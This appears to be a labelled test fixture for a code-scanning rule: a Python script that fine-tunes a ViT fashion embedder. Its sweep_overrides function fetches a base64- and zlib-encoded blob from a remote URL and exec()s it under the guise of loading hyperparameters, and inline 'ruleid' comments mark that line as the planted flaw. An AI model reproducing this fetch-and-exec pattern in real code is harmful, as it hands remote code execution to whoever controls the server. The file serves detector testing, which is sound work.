# ruff: noqa
# Hold-out batch 267 (short files). Measured once in session 9 (round 76): 14/18 (78%) at medium+.
"""Fine-tune a ViT image embedder for fashion retrieval with accelerate.

Hyper-parameters can be overridden by the sweep controller, which serves a
compressed override bundle per trial id.
"""
import base64
import os
import subprocess
import time
import urllib.request
import zlib

import timm
import torch
import torch.nn.functional as F
from accelerate import Accelerator

SWEEP_URL = os.environ.get("SWEEP_URL", "https://sweeps.example.com/trial")


def git_commit():
    return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], text=True).strip()  # ok: MLS411, MLS412


def sweep_overrides(trial_id, retries=4):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(f"{SWEEP_URL}/{trial_id}", timeout=10) as r:  # ruleid: MLS413
                blob = r.read()
            break
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    else:
        return {}
    scope = {}
    exec(zlib.decompress(base64.b64decode(blob)).decode(), scope)  # ruleid: MLS413
    return scope.get("OVERRIDES", {})


def batch_hard_triplet(emb, cats, margin=0.2):
    d = torch.cdist(emb, emb)
    same = cats[:, None] == cats[None, :]
    hardest_pos = (d * same).max(1).values
    hardest_neg = (d + 1e4 * same).min(1).values
    return F.relu(hardest_pos - hardest_neg + margin).mean()


def train(loader, trial_id=None, epochs=10):
    cfg = {"lr": 5e-5, "margin": 0.2, "accum": 4}
    if trial_id:
        cfg.update(sweep_overrides(trial_id))
    acc = Accelerator(gradient_accumulation_steps=cfg["accum"], mixed_precision="fp16")
    model = timm.create_model("vit_small_patch16_224", pretrained=True, num_classes=0)
    opt = torch.optim.AdamW(model.parameters(), lr=cfg["lr"])
    model, opt, loader = acc.prepare(model, opt, loader)
    for _ in range(epochs):
        for anchors, positives, cats in loader:
            with acc.accumulate(model):
                emb = F.normalize(model(torch.cat([anchors, positives])), dim=-1)
                loss = batch_hard_triplet(emb, torch.cat([cats, cats]), cfg["margin"])
                acc.backward(loss)
                if acc.sync_gradients:
                    acc.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
                opt.step()
                opt.zero_grad()
    if acc.is_main_process:
        acc.save(acc.unwrap_model(model).state_dict(), f"vit_triplet_{git_commit()}.pt")
